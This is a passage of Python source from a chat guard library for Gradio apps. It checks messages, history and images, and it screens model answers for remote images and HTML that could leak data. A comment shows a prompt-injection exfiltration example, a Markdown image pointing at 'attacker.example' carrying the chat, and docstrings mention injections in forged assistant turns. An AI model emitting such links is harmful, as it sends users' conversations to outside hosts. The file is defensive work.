                if name not in (self.message, self.history, self.request) and name in bound:
                    self._put(call, name, (yield from self._additional(bound[name], call)))
        except _Refused:
            _delete(call.written)  # a turn refused after an image was blurred for it
            raise
        return call

    def _put(self, call: _Call, name: str, value: Any) -> None:
        if name in call.kwargs or self.names.index(name) >= len(call.args):
            call.kwargs[name] = value
        else:
            call.args[self.names.index(name)] = value

    def _message(self, message: Any, call: _Call) -> Generator[_Check, Verdict, Any]:
        if isinstance(message, Mapping) and "text" in message:  # gr.ChatInterface(multimodal=True)
            text = yield from _checked(self.input, message["text"] or "", Modality.TEXT, call)
            files = []
            for file in message.get("files") or []:
                files.append((yield from self._file(self.input, file, call)))
            return {**message, "text": text, "files": files}
        return (yield from _checked(self.input, message, Modality.TEXT, call))

    def _additional(self, value: Any, call: _Call) -> Generator[_Check, Verdict, Any]:
        """One of the chat function's other inputs through the input guards (no rate limit: the turn was
        counted), redacted as they redact: text, a file (a path or a ``{"path"}`` dict, as gr.File and
        gr.Image(type="filepath") give them), a PIL image or an array (gr.Image), a list of those; numbers
        and booleans pass. Anything else is a GuardConfigError: it would reach the model unchecked.

        A string goes through the text guards whatever it is (a system prompt box, or a file component's
        path, whose file name the client chose); one naming a file, when there are input image guards, then
        goes through them as that file too, unless the text guards changed it (it is then the redacted text)."""
        if value is None or isinstance(value, bool | int | float):
            return value
        images = bool(self.earlier.stage_guards(Stage.INPUT, Modality.IMAGE))
        if isinstance(value, str):  # text, always: a file's name is the client's words too
            text = yield from _checked(self.earlier, value, Modality.TEXT, call)
            if images and text == value and len(value) < 4096 and Path(value).is_file():  # a file component's path
                return (yield from self._file(self.earlier, value, call))
            return text
        if isinstance(value, list | tuple):
            items = []
            for item in value:
                items.append((yield from self._additional(item, call)))
            return type(value)(items)
        if isinstance(value, Mapping) and "path" in value:
            return (yield from self._file(self.earlier, value, call))
        if _is_picture(value):
            if not images:
                return value
            data = _picture_png(value)
            output = yield from _checked(self.earlier, data, Modality.IMAGE, call)
            return value if output == data else _as_picture(output, value)
        raise GuardConfigError(f"the chat function takes {type(value).__name__} as an input besides the message: "
                               "the input guards cannot read it, so it would reach the model unchecked; give "
                               "text, files, images, numbers or lists of them", where="guard_chat")

    def _history(self, history: Any, call: _Call) -> Generator[_Check, Verdict, list[Any]]:
        if not _is_messages(history):  # Gradio 6 sends {role, content} messages only
            raise _Refused(_refusal("the chat history is not a list of {role, content} messages; not checked"))
        checked: list[Any] = []
        exchange = 0  # where the messages of the exchange now going on start in `checked`
        answering = dropped = False
        for message in self.limits.window(history):
            if message.get("role") == "assistant":
                answering = True
                if dropped:  # the answer to a message left out (its refusal) goes with it
                    continue
                try:
                    content = yield from self._past(message, call)
                except _Refused:  # a forged or blocked answer: left out with the messages it answers
                    del checked[exchange:]
                    dropped = True
                    continue
                checked.append({**message, "content": content})
                continue
            if answering:  # a user message after answers starts the next exchange
                exchange, answering, dropped = len(checked), False, False
            try:  # user, or a system message a client slipped in
                content = yield from self._past(message, call)
            except _Refused:
                # Left out, not refusing the turn: Gradio keeps a blocked message in the history, so
                # refusing would end the chat for good; the model never sees it either way.
                dropped = True
                continue
            dropped = False
            checked.append({**message, "content": content})
        return checked

    def _past(self, message: Mapping[str, Any], call: _Call) -> Generator[_Check, Verdict, Any]:
        """A history message's content as checked, or _Refused; remembered when it is text alone (a file's
        path may hold another image next turn). An answer is checked as the model's output (its redactions
        kept, its label not added again), then as input: a client writes any "assistant" turn it likes, an
        injection in it included. Nothing is recorded (see :attr:`past_input`)."""
        role, content = message.get("role"), message.get("content")
        key = self.limits.key(call.context.user_key, role, content)
        if key is not None and (found := self.limits.recall(key)) is not None:
            if isinstance(found, Verdict):
                raise _Refused(found)
            return found[0] if isinstance(found[0], str) else copy.deepcopy(found[0])
        verdicts: list[Verdict] = []
        try:
            if role == "assistant":
                content = yield from _watched(self._content(content, call, self.past_output, Stage.OUTPUT,
                                                            bare=True), verdicts)
            content = yield from _watched(self._content(content, call, self.past_input, Stage.INPUT), verdicts)
        except _Refused as refused:
            if key is not None and _sound(verdicts):
                self.limits.remember(key, refused.verdict)
            raise
        if key is not None and _sound(verdicts):
            self.limits.remember(key, (content if isinstance(content, str) else copy.deepcopy(content),))
        return content

    def _content(self, content: Any, call: _Call, pipeline: Pipeline, stage: Stage,
                 bare: bool = False) -> Generator[_Check, Verdict, Any]:
        """A history message's content, checked: a string, or Gradio 6's list of text and file parts.
        ``bare``: texts without what the guards add (a label, a notice), only their redactions."""
        if isinstance(content, list | tuple):
            parts = []
            for part in content:
                parts.append((yield from self._content(part, call, pipeline, stage, bare)))
            return parts
        if isinstance(content, Mapping) and content.get("type") == "text":
            text = yield from _checked(pipeline, content.get("text"), Modality.TEXT, call, stage, bare=bare)
            return {**content, "text": text}
        if isinstance(content, Mapping) and content.get("type") == "file":
            return {**content, "file": (yield from self._file(pipeline, content.get("file"), call, stage))}
        if isinstance(content, Mapping) and content.get("type") == "component" and content.get("component") in (
                "image", "file") and content.get("value") is not None:  # a gr.Image or gr.File answer, sent back
            value = content["value"]
            files = []
            for file in value if isinstance(value, list) else [value]:
                files.append((yield from self._file(pipeline, file, call, stage)))
            return {**content, "value": files if isinstance(value, list) else files[0]}
        if isinstance(content, Mapping) and "path" in content:  # a file message (Gradio 5)
            return (yield from self._file(pipeline, content, call, stage))
        # Text, or something the pipeline refuses as unreadable (a component): never passed unchecked.
        return (yield from _checked(pipeline, content, Modality.TEXT, call, stage, bare=bare))

    def _file(self, pipeline: Pipeline, file: Any, call: _Call, stage: Stage = Stage.INPUT, *,
              answer: bool = False) -> Generator[_Check, Verdict, Any]:
        """A file checked by the stage's image guards (a changed input, or a changed file of the answer
        being given, written anew); without them, as is. A history's answer is kept as it was shown."""
        if not pipeline.stage_guards(stage, Modality.IMAGE):
            return file
        from clauseguard.guards._images import ImageLoadError, read_file

        path = _path_of(file)
        try:  # a regular file of at most MAX_BYTES, as the image loader reads one: a larger one is refused unread
            data = read_file(Path(path))
        except (ImageLoadError, OSError, TypeError, ValueError) as err:  # why, and the path, go to the log only
            log.warning("guard_chat: a file of the message cannot be read: %s", err)
            raise _Refused(_refusal("A file of the message is too large or cannot be read, so it was not "
                                    "checked.")) from err
        output = yield from _checked(pipeline, data, Modality.IMAGE, call, stage)
        if not answer and (output == data or stage is Stage.OUTPUT):  # a history's answer: as it was shown
            return file
        if not answer:
            new = _write_image(output)
            call.written.append(new)  # deleted with the turn
            return {**file, "path": new} if isinstance(file, Mapping) else new
        # Read by Gradio after the turn, from a new file even when unchanged: the path may hold another image
        # by then. Without the "url": Gradio shows an http url in place of the path.
        new = _write_answer_image(output, Path(path).suffix if output == data else ".png")
        return {k: v for k, v in file.items() if k != "url"} | {"path": new} if isinstance(file, Mapping) else new


class _History:
    """How much of a chat's history is checked, and the results of its text messages, remembered."""

    def __init__(self, messages: int | None = HISTORY_MESSAGES, chars: int | None = HISTORY_CHARS) -> None:
        self.messages, self.chars = messages, chars
        self.results: OrderedDict[bytes, Any] = OrderedDict()  # by key: (content,), or the Verdict that refused it
        self.lock = threading.Lock()  # Gradio runs sync chat functions in threads

    def window(self, history: Sequence[Mapping[str, Any]]) -> list[Mapping[str, Any]]:
        """The newest messages within the limits; when older ones are left out, from a user's message on."""
        kept: list[Mapping[str, Any]] = []
        chars = 0
        for message in reversed(history):
            chars += len(_text_of(message.get("content")))
            if (self.messages is not None and len(kept) >= self.messages) or (
                    self.chars is not None and chars > self.chars):
                break
            kept.append(message)
        kept.reverse()
        if len(kept) < len(history):  # an answer whose question was left out goes with it
            while kept and kept[0].get("role") == "assistant":
                kept.pop(0)
        return kept

    @staticmethod
    def key(user: str | None, role: Any, content: Any) -> bytes | None:
        """A message's key: of its user (no one learns what another said by timing), role and content; None
        for one not to remember (a file, or a long text)."""
        if not _text_alone(content):
            return None
        text = repr((user, role, content))
        if len(text) > _REMEMBERED_CHARS:
            return None
        return hashlib.sha256(text.encode("utf-8", "surrogatepass")).digest()

    def recall(self, key: bytes) -> Any:
        with self.lock:
            found = self.results.get(key)
            if found is not None:
                self.results.move_to_end(key)
            return found

    def remember(self, key: bytes, result: Any) -> None:
        with self.lock:
            self.results[key] = result
            while len(self.results) > _REMEMBERED:
                self.results.popitem(last=False)


def _text_alone(content: Any) -> bool:
    """Whether a history message's content is text alone (a string, or text parts), as _content reads it."""
    if isinstance(content, str):
        return True
    if isinstance(content, list | tuple):
        return all(_text_alone(part) for part in content)
    return isinstance(content, Mapping) and content.get("type") == "text" and isinstance(content.get("text"), str)


def _sound(verdicts: list[Verdict]) -> bool:
    """Whether the verdicts may be remembered: none from a guard that failed (it may not fail next time)."""
    from clauseguard.guards._runner import GuardFailure

    return not any(isinstance(f, GuardFailure) for v in verdicts for f in v.findings)


def _watched(steps: Steps[T], verdicts: list[Verdict]) -> Steps[T]:
    """``steps``, run as they are, the verdicts they get kept in ``verdicts``."""
    try:
        step = next(steps)
        while True:
            answer = yield step
            if isinstance(answer, Verdict):
                verdicts.append(answer)
            step = steps.send(answer)
    except StopIteration as done:
        return done.value  # type: ignore[no-any-return]


def _checked(pipeline: Pipeline, content: Any, modality: Modality, call: _Call,
             stage: Stage = Stage.INPUT, *, bare: bool = False) -> Generator[_Check, Verdict, Any]:
    """``content`` as the guards let it through, or _Refused; ``bare``: without their prefix and suffix."""
    verdict = yield _Check(pipeline, content, modality, call.context, stage)
    if not verdict.allowed:
        raise _Refused(verdict)
    if bare and isinstance(verdict.output, str):
        return verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)]
    return verdict.output


def _bare(verdict: Verdict) -> str | None:
    """A text as the guards let it through, without what they add (a label, a notice); None when blocked."""
    if not verdict.allowed or not isinstance(verdict.output, str):
        return None
    return verdict.output[len(verdict.prefix):len(verdict.output) - len(verdict.suffix)]


def _is_picture(value: Any) -> bool:
    """A PIL image or a numpy array of two or three dimensions (gr.Image's ``type="pil"`` and ``"numpy"``)."""
    module = type(value).__module__
    return (module.startswith("PIL.") and hasattr(value, "getpixel")) or (
        module.startswith("numpy") and len(getattr(value, "shape", ())) in (2, 3))


def _picture_png(value: Any) -> bytes:
    from PIL import Image

    from clauseguard.guards._images import encode_png

    return encode_png(value if isinstance(value, Image.Image) else Image.fromarray(value))


def _as_picture(data: bytes, like: Any) -> Any:
    """The image a guard changed (blurred), in the type the chat function was given."""
    import io

    from PIL import Image

    image = Image.open(io.BytesIO(data))
    image.load()
    if isinstance(like, Image.Image):
        return image.convert(like.mode) if like.mode != image.mode else image
    import numpy as np

    return np.asarray(image.convert("L" if like.ndim == 2 else "RGB"))


def _write_image(data: bytes, folder: str | None = None, suffix: str = ".png") -> str:
    """A new file for an image a guard changed (blurred): the model must get that one, not the original."""
    with tempfile.NamedTemporaryFile(prefix="clauseguard-", suffix=suffix, delete=False, dir=folder) as out:
        out.write(data)
    return out.name


ANSWER_FILES_KEPT_S = 3600  # Gradio copies an answer's file into its own cache when it shows the answer
_SWEEP_EVERY_S = 60  # how often writing an answer's file also removes those past ANSWER_FILES_KEPT_S
_last_sweep = [0.0]


@functools.cache
def _answer_folder() -> str:
    """This process's folder for the changed images of answers (private: made by ``mkdtemp``, mode 0700),
    removed when the process exits (Gradio has its own copies of the files it showed)."""
    folder = tempfile.mkdtemp(prefix="clauseguard-answers-")
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder


def _keep(paths: Iterator[Any]) -> None:
    """Keep the answer files a stream shows again for as long as it runs: Gradio reads a file each time it is
    shown, and the sweep removes files ``ANSWER_FILES_KEPT_S`` old. One ``stat`` per file and update; a file
    half that old is given a new modification time."""
    cutoff = time.time() - ANSWER_FILES_KEPT_S / 2
    for path in paths:
        try:
            if os.path.dirname(path) == _answer_folder() and os.stat(path).st_mtime < cutoff:
                os.utime(path)
        except (OSError, TypeError, ValueError):  # gone already, or not a path: nothing to keep
            pass


def _write_answer_image(data: bytes, suffix: str = ".png") -> str:
    """A new file for an answer's image as the guards passed it (changed or not). Gradio reads it after the turn,
    so it cannot go with the turn's files; files older than ``ANSWER_FILES_KEPT_S`` are removed as new ones
    are written, so an app that marks every image it answers with does not fill its disk."""
    folder, now = _answer_folder(), time.time()
    if now - _last_sweep[0] >= _SWEEP_EVERY_S:  # not on every image: the folder holds an hour of them
        _last_sweep[0] = now
        with os.scandir(folder) as entries:
            for entry in entries:
                try:
                    if entry.stat().st_mtime < now - ANSWER_FILES_KEPT_S:
                        os.unlink(entry.path)
                except OSError:  # removed meanwhile by another thread
                    pass
    return _write_image(data, folder, suffix)


# -- remote content in answers ---------------------------------------------------------------------------
#
# Gradio's Chatbot renders an answer's Markdown and keeps <img>: after a prompt injection, an answer showing
# ![x](https://attacker.example/?q=<the chat>) makes the browser send the data as it draws the answer, with no
# click. Such content pointing at a host not allowed is shown as plain text naming the host, or removed.

REMOTE_MODES = ("text", "remove", "keep")
# Bounded, so that a long run of "![" or "<a" costs little: a longer image or tag than these, or a tag with a
# "<" outside its quoted values, is shown as text.
_MD_IMAGE = re.compile(  # an inline Markdown image: ![alt](destination "title")
    r"!\[(?P<alt>(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.){0,500}\]){0,500})\]\(\s*"
    r"(?P<dest><[^<>\n]{0,4096}>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.){0,4096}\)){0,4096})"
    r"(?:\s+(?:\"(?:[^\"\\]|\\.){0,4096}\"|'(?:[^'\\]|\\.){0,4096}'|\((?:[^()\\]|\\.){0,4096}\)))?\s*\)",
    re.DOTALL)
_TAG = re.compile(  # possessive: a tag not closed costs one pass, not one per character of its name
    r"<(?P<name>[A-Za-z][^\s/>]*+)(?P<attrs>(?:[^<>\"']|\"[^\"]{0,8192}\"|'[^']{0,8192}'){0,8192}+)>")
_TAG_LONGEST = 65536  # a tag is read within this many characters and its paragraph (to a blank line), else text
_TAG_START = re.compile(r"<[A-Za-z][A-Za-z0-9:-]*(?=[\s/>]|$)")  # not "i<n;": a tag's name ends so
_ATTR = re.compile(r"(?P<name>[^\s\"'>/=]+)(?:\s*=\s*(?P<value>\"[^\"]*\"|'[^']*'|[^\s\"'=<>`]+))?")
_URL_ATTRS = {"src", "poster", "data", "background", "href", "xlink:href", "lowsrc", "dynsrc", "icon", "manifest"}
_CLICKED = {"a", "area"}  # their href is followed on a click only
_CSS_URL = re.compile(r"url\(\s*(?P<q>[\"']?)(?P<url>.*?)(?P=q)\s*\)", re.IGNORECASE | re.DOTALL)
_CSS_LOADS = ("image-set", "image(", "@import", "\\", "cross-fade", "element(")  # loads, or hides a url()
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_EMBEDS = {"iframe", "frame", "frameset", "object", "embed", "portal", "fencedframe", "script", "style", "meta",
           "template", "applet", "set", "animate", "animatemotion", "animatetransform", "discard"}  # SVG's set a url
_NOWHERE = "about:"  # the url of content that loads what cannot be told: refused
# A link reference definition "[label]: destination": one to a host not allowed is shown as text, so that a
# reference image (![x][label], ![label]) can only load from a host allowed.
_DEFINITION = re.compile(r"\]:\s*(?P<dest><[^<>\n]*>|\S*)")
# Code blocks are shown as the answer gave them, read as marked (Gradio's Markdown) reads them; where that
# reading is in doubt, everything from there on is screened.
_FENCE_LIKE = re.compile(r"[ \t>*+\-0-9.)]*(?:`{3}|~{3})")  # a fence, maybe in a list or quote, or indented
# one marked opens at this line, outside any list or quote (one indented could be in a list item, and end
# at a line indented less)
_FENCE = re.compile(r"(?P<fence>`{3,}(?=[^`]*$)|~{3,}).*")
# Gradio's own mermaid block (its markdown-code.js: /^```mermaid\s*\n([\s\S]*?)```\s*(?:\n|$)/), drawn as
# a diagram that can load images, not as code
_MERMAID = re.compile(r"```mermaid", re.IGNORECASE)
_MERMAID_END = re.compile(r"```[ \t]*(?:\n|\Z)")  # its end, or later (JavaScript's \s is wider)
_MERMAID_END_WIDE = re.compile(r"```[\s\ufeff]*(?:\n|\Z)")  # its end, or sooner
# what in a diagram may load something (an image, a link, a style, HTML, an escape or directive): such a
# diagram is shown as code
_MERMAID_LOADS = re.compile(r"//|\\|<|&|%%|url|img|image|href|src|http|import|click|link|call|script|#\w*;",
                            re.IGNORECASE)
_LATEX = ("$", "\\(", "\\[", "\\begin")  # KaTeX's delimiters: Gradio's latex block reads past code fences
_RAW_HTML = (("<pre", "</pre>"), ("<script", "</script>"), ("<style", "</style>"), ("<textarea", "</textarea>"),
             ("<!--", "-->"), ("<?", "?>"), ("<![cdata[", "]]>"), ("<!", ">"))  # raw HTML blocks past blank lines


@dataclass(frozen=True)
class _Remote:
    """What an answer shown may load from other hosts: ``mode`` "text" (the default: images and other
    auto-loading content shown as text naming the host), "remove" or "keep" (as the answer gave it);
    ``hosts`` allowed (each with its subdomains)."""

    mode: str = "text"
    hosts: tuple[str, ...] = ()

    @classmethod
    def of(cls, mode: str, hosts: Sequence[str]) -> _Remote:
        if mode not in REMOTE_MODES:
            raise GuardConfigError(f"remote_images must be one of {', '.join(map(repr, REMOTE_MODES))}, "
                                   f"not {mode!r}", where="guard_chat")
        if isinstance(hosts, str) or not all(isinstance(h, str) and h.strip(". ") for h in hosts):
            raise GuardConfigError(f"allowed_hosts must be a list of host names, not {hosts!r}", where="guard_chat")
        return cls(mode, tuple(h.strip(". ").lower() for h in hosts))

    def shown(self, text: str, *, final: bool = True) -> str:
        """``text`` with its remote images and other auto-loading HTML to hosts not allowed replaced; while an
        answer streams (not ``final``), without an image or tag not yet closed (it is judged once it is).
        Fenced code blocks are left as they are (a mermaid diagram that could load something is shown as
        code)."""
        if self.mode == "keep" or not isinstance(text, str) or not any(
                mark in text for mark in ("![", "<", "]:", "```")):
            return text
        text = _mermaid_as_code(text)
        out: list[str] = []
        i = 0
        for lo, hi in [*_code_blocks(text), (len(text), len(text))]:
            screened, held = self._screen(text, i, lo, final)
            out.append(screened)
            if held:  # not closed yet: the rest held back while the answer streams
                break
            out.append(text[lo:hi])
            i = hi
        return "".join(out)

    def _screen(self, text: str, i: int, hi: int, final: bool) -> tuple[str, bool]:
        """``text[i:hi]`` (no code block) screened, and whether the rest is held back."""
        final = final or hi < len(text)  # a code block follows: what is before it is closed
        out: list[str] = []
        md = tag = ref = -1
        while i < hi:
            if md < i:  # each found once: the next image, tag and definition from i
                md = text.find("![", i, hi) % (hi + 1)  # not found (-1): the end
            if tag < i:
                opening = _TAG_START.search(text, i, hi)
                tag = opening.start() if opening else hi
            if ref < i:
                ref = text.find("]:", i, hi) % (hi + 1)
            start = min(md, tag, ref, hi)
            if start == hi and not final and text[hi - 1] in "!]<":  # may yet start an image, definition
                out.append(text[i:hi - 1])  # or tag: held back, so that what was shown stays as it was
                return "".join(out), True
            out.append(text[i:start])
            if start == hi:
                break
            if start == md:
                step, shown = self._image(text, start, hi, final)
            elif start == ref:
                step, shown = self._definition(text, start, hi, final)
            else:
                step, shown = self._tag(text, start, hi, final)
            if step is None:
                return "".join(out), True
            out.append(shown)
            i = step
        return "".join(out), False

    def _image(self, text: str, start: int, hi: int, final: bool) -> tuple[int | None, str]:
        found = _MD_IMAGE.match(text, start, hi)
        if found is None:  # a reference image (its definition screened), one not closed yet, or one this reading
            end = text.find("\n\n", start, hi)  # cannot follow: then its paragraph has a "](" after it
            if end < 0 and not final:
                return None, ""
            if "](" not in text[start + 2:hi if end < 0 else end]:
                return start + 2, "!["  # cannot start an inline image: as it is ("vec![1]")
            return start + 2, "!\\["  # shown as text: nothing loaded
        dest = found["dest"][1:-1] if found["dest"].startswith("<") else found["dest"]
        inside = found[0][2:].replace(found["dest"], dest, 1)
        if "`" in inside or "<" in inside:  # a code span or tag in its alt or title may end it elsewhere: its
            return start + 2, "!\\["  # inside is read too
        host = self._refused(html.unescape(_MD_ESCAPE.sub(r"\1", dest)))
        return found.end(), found[0] if host is None else self._instead("image", host)

    def _definition(self, text: str, start: int, hi: int, final: bool) -> tuple[int | None, str]:
        found = _DEFINITION.match(text, start, hi)
        assert found is not None
        if found.end() == len(text) and not final:  # its destination may not be whole yet
            return None, ""
        if not found["dest"] or self._refused(html.unescape(_MD_ESCAPE.sub(r"\1", found["dest"].strip("<>")))) is None:
            return start + 2, "]:"
        return start + 2, "]\\:"  # not a definition: shown as text

    def _tag(self, text: str, start: int, hi: int, final: bool) -> tuple[int | None, str]:
        end = min(hi, start + _TAG_LONGEST)
        blank = text.find("\n\n", start, end)
        found = _TAG.match(text, start, end if blank < 0 else blank)
        if found is None:  # not closed: held back while it still could, then shown as text
            could_close = blank < 0 and end == len(text)
            return (None, "") if could_close and not final else (start + 1, "&lt;")
        name = found["name"].lower()
        urls = _tag_urls(name, found["attrs"])
        hosts = [host for url in urls if (host := self._refused(url)) is not None]
        if name in _EMBEDS and not hosts:  # a page, script or style sheet of its own: never loaded
            hosts = ["another site"]
        if not hosts:
            return found.end(), found[0]
        return found.end(), self._instead("content", hosts[0])

    def _refused(self, url: str) -> str | None:
        """None when loading ``url`` sends nothing to another host (a relative url, data:, an allowed host);
        else what to call where it goes."""
        url = re.sub(r"[\x00-\x20\x7f]", "", url).replace("\\", "/")
        parts = urlsplit(url)
        scheme = parts.scheme.lower()
        if scheme == "data" or (not scheme and not parts.netloc):
            return None
        try:
            host = (parts.hostname or "").lower()
        except ValueError:
            host = ""
        if scheme in ("http", "https", "") and host and any(host == h or host.endswith("." + h) for h in self.hosts):
            return None
        return host if re.fullmatch(r"[a-z0-9.:\[\]-]{1,253}", host) else "another site"

    def _instead(self, kind: str, host: str) -> str:
        if self.mode == "remove":
            return ""
        return f"[{kind} from {host} not shown]" if kind == "image" else f"[{kind} from {host} not loaded]"


def _mermaid_as_code(text: str) -> str:
    """``text`` with each mermaid block that could load something (Gradio draws ```mermaid as a diagram,
    which can show images, links and HTML) turned into a plain code block."""
    if "```" not in text or not _MERMAID.search(text):
        return text
    out, i = [], 0
    stop = loads = -1  # the last block's end, and what in it may load: each found once, not once a block
    for found in _MERMAID.finditer(text):
        inside = found.end()
        if stop < inside:
            end = _MERMAID_END.search(text, inside)
            stop, loads = (end.start() if end else len(text)), -1
        if loads < inside:
            may = _MERMAID_LOADS.search(text, inside, stop)
            loads = may.start() if may else stop
        if loads < stop:
            out.append(text[i:found.start()] + "```text")
            i = found.end()
    return "".join(out) + text[i:]


def _code_blocks(text: str) -> list[tuple[int, int]]:
    """Where ``text``'s fenced code blocks are, each from its opening line to its closing one: those marked
    surely reads as code (opened at the line's start, closed by a line marked and CommonMark both close it
    at, or by the text's end). None inside raw HTML, after a fence marked could read otherwise, or with
    LaTeX (Gradio's latex block reads past a fence)."""
    if ("```" not in text and "~~~" not in text) or "\r" in text or any(mark in text for mark in _LATEX):
        return []
    blocks: list[tuple[int, int]] = []
    pos = block = since = 0  # block: where the paragraph or HTML block pos is in began (after a blank line);
    # since: where the last code block or diagram ended
    while pos < len(text):
        end = text.find("\n", pos) % (len(text) + 1)
        line = text[pos:end]
        if not line.strip(" "):
            pos = block = end + 1
            continue
        if not _FENCE_LIKE.match(line):
            pos = end + 1
            continue
        opening = _FENCE.fullmatch(line)
        if opening is None or "<" in text[block:pos] or _in_raw_html(text[:pos]) or _in_definition(text, since, pos):
            break  # in a list or quote, indented, maybe raw HTML or a definition: screened from here
        if line.startswith("```mermaid"):  # Gradio's diagram, not code: screened, to its own end
            closing, sooner = _MERMAID_END.search(text, end + 1), _MERMAID_END_WIDE.search(text, end + 1)
            if line[len("```mermaid"):].strip(" \t") or closing is None or sooner is None or (
                    closing.start() != sooner.start()):  # where Gradio ends it is in doubt
                break
            pos = block = since = closing.end()
            continue
        fence = opening["fence"]
        closing = _closing(text, end + 1, fence)
        if closing is None:
            break
        blocks.append((pos, closing))
        pos = block = since = closing
    return blocks


def _in_definition(text: str, since: int, pos: int) -> bool:
    """Whether a link reference definition may go on over ``pos``: marked reads its label ("[" to "]:")
    and a quoted title across lines, blank lines and fences included."""
    before = text[since:pos]
    opened = before.rfind("[")
    return "]:" in before or (opened >= 0 and re.search(r"(?<!\\)\]", before[opened:]) is None)


def _closing(text: str, pos: int, fence: str) -> int | None:
    """Where the code block opened by ``fence`` ends (after its closing line; the text's end when none),
    or None when marked might close it elsewhere."""
    near = re.compile(rf"[ \t]*{re.escape(fence[0])}{{{len(fence)},}}[`~ \t]*")
    exact = re.compile(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}} *")
    while pos < len(text):
        end = text.find("\n", pos) % (len(text) + 1)
        line = text[pos:end]
        if near.fullmatch(line):
            return min(end + 1, len(text)) if exact.fullmatch(line) else None
        pos = end + 1
    return len(text)


def _in_raw_html(before: str) -> bool:
    """Whether ``before`` opens a raw HTML block that a blank line does not end (<pre>, a comment...)."""
    lower = before.lower()
    for opener, closer in _RAW_HTML:
        at = lower.rfind(opener)
        if at >= 0 and lower.find(closer, at + len(opener)) < 0:
            return True
    return False


def _tag_urls(name: str, attrs: str) -> list[str]:
    """The urls an HTML tag's attributes load as it is shown: src, poster, data, srcset's, any url() (a
    style's, or SVG's fill, mask, clip-path, filter, marker...), an href (not a link's: followed on a click
    only); a srcdoc, a value that hides what it loads, or a mermaid diagram counts as a url of no host."""
    urls: list[str] = []
    for found in _ATTR.finditer(attrs):
        key = found["name"].lower()
        value = html.unescape((found["value"] or "").strip("\"'"))
        if key in _URL_ATTRS and not (key == "href" and name in _CLICKED):
            urls.append(value)
        elif key in ("srcset", "imagesrcset"):
            urls.extend(part.split()[0] for part in value.split(",") if part.split())
        elif key == "srcdoc" or (key == "http-equiv" and value.lower() == "refresh") or (
                key == "class" and "mermaid" in value.lower()):
            urls.append(_NOWHERE)
        urls.extend(m["url"] for m in _CSS_URL.finditer(value))  # SVG's presentation attributes load url() too
        loads = [mark for mark in _CSS_LOADS if mark in value.lower()]
        if loads and (key == "style" or loads != ["\\"] or "(" in value):
            urls.append(_NOWHERE)
    return urls


# -- answers in messages --------------------------------------------------------------------------

_END = object()  # a stream that ended before its first item
_SHOWN_METADATA = ("title", "log")  # what Gradio shows of a message's metadata (a thought's or tool call's)
_SHOWN_OPTION = ("label", "value")  # an option's button (the value when no label), sent as the user's turn


def _in_messages(answer: Any) -> bool:
    """Whether a chat function's answer is in messages: a ``gr.ChatMessage``, a ``{"role", "content"}``
    dict, a ``{"text", "files"}`` dict or a list (of those or strings), read as Gradio's ChatInterface
    reads them."""
    from gradio import ChatMessage

    return (isinstance(answer, list | ChatMessage) or (isinstance(answer, Mapping) and "content" in answer)
            or _is_file(answer) or _is_multimodal(answer))


def _is_multimodal(message: Any) -> bool:
    """A ``{"text", "files"}`` dict, as a multimodal textbox gives it: Gradio shows its files (paths, or
    ``{"path"}`` dicts) and then its text, when there is any, as one message."""
    return isinstance(message, Mapping) and "content" not in message and "text" in message and not _is_file(message)


def _is_file(part: Any) -> bool:
    """Whether ``part`` (an answer, a message's content or a part of it) shows a file: a ``{"path"}``
    dict, a ``{"type": "file", "file": {...}}`` part (Gradio 6), a ``gr.Image`` or ``gr.File``."""
    from gradio import File, Image

    if isinstance(part, Mapping):  # as Gradio's Chatbot reads a part: by its "path", its "file", then its type
        return "content" not in part and ("path" in part or "file" in part or part.get("type") == "file")
    return isinstance(part, Image | File)


@dataclass
class _View:
    """One message of an answer: its content, the texts in it, and the other texts it shows."""

    message: Any  # a gr.ChatMessage, a {"role", "content"} dict, or a str or file (a message of its own)
    content: Any
    texts: list[str]
    fields: dict[tuple[Any, ...], str]  # ("metadata", key) or ("options", index, key): its text
    files: list[Any] = field(default_factory=list)  # the file parts of its content, in order
    role: Any = None
    checked: bool = False  # an answer of the history as checked this turn: shown as it is

    @classmethod
    def settled(cls, message: Any) -> _View:
        return cls(message, message.get("content"), [], {}, role=message.get("role"), checked=True)

    @classmethod
    def of(cls, message: Any, files: bool = False) -> _View:
        """``files``: whether files can be checked (output image guards); else a file is unreadable."""
        from gradio import ChatMessage

        if isinstance(message, str) or _is_file(message):
            texts, found = _parts(message, files)
            return cls(message, message, texts, _file_texts(found), found)
        if _is_multimodal(message):  # read as the content [files..., text] (the text only when there is one)
            text, listed = message["text"], message.get("files") or []
            if not isinstance(text, str | None) or not isinstance(listed, list | tuple):
                raise _unreadable(message, "an answer of text and files")
            content = [f if isinstance(f, Mapping) else {"path": f} for f in listed] + ([text] if text else [])
            texts, found = _parts(content, files)
            return cls(message, content, texts, _file_texts(found), found)
        if isinstance(message, ChatMessage):
            content, metadata, options = message.content, message.metadata, message.options
        elif isinstance(message, Mapping) and "content" in message:
            content, metadata, options = message["content"], message.get("metadata"), message.get("options")
        else:
            raise _unreadable(message, "a message")
        texts, found = _parts(content, files)
        role = message.role if isinstance(message, ChatMessage) else message.get("role")
        return cls(message, content, texts, _fields(metadata, options) | _file_texts(found), found, role)

    def shown(self, content: Any, fields: dict[tuple[Any, ...], str | None]) -> Any:
        """The message with ``content`` and the checked ``fields`` (None: blocked), in its own type. Its
        metadata and options are copies: the chat function may change its own while Gradio shows these."""
        from gradio import ChatMessage

        if isinstance(self.message, str) or _is_file(self.message):
            return content
        if _is_multimodal(self.message):
            return _multimodal(self.message, content)
        changes: dict[str, Any] = {"content": content}
        get = functools.partial(getattr, self.message) if isinstance(self.message, ChatMessage) else self.message.get
        metadata, options = get("metadata"), get("options")
        if metadata is not None:  # a title or log that blocks is left out
            changes["metadata"] = _checked_fields(metadata, fields, ("metadata",))[0]
        if options is not None:  # an option whose label or value blocks is left out
            changes["options"] = [checked for n, option in enumerate(options)
                                  for checked, blocked in [_checked_fields(option, fields, ("options", n))]
                                  if not blocked]
        if isinstance(self.message, ChatMessage):
            return dataclasses.replace(self.message, **changes)
        return {**self.message, **changes}


def _known(message: Any, known: Sequence[Any], i: int) -> bool:
    """Whether the ``i``-th message of a list answered is the history's answer at that place, as it was
